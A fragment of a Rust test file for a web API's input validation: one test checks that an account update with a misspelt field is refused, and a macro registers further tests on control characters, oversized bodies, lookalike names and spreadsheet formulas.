    let accounts = n.chair.get("/api/v1/accounts").1;
    let id =
        accounts.as_array().and_then(|l| l.iter().find(|x| x["email"] == "d1@example.org")).map(|x| x["id"].clone());
    let (status, body) = n.chair.patch(&format!("/api/v1/accounts/{}", id.expect("account")), json!({"activ": false}));
    refused(status, &body, "activ");
}

both!(
    a_misspelt_field_is_refused_not_ignored,
    addresses_and_noncharacters_are_refused,
    a_bad_optional_body_is_refused_not_defaulted,
    an_assembly_is_created_under_the_text_rule,
    oversized_bodies_and_counts_are_refused,
    lookalike_organisations_are_refused,
    the_register_matches_names_as_people_read_them,
    control_characters_are_refused_on_every_path,
    numbers_and_blank_names_are_bounded,
    one_organisation_cannot_flood_the_record,
    spreadsheet_formulas_stay_text,
);
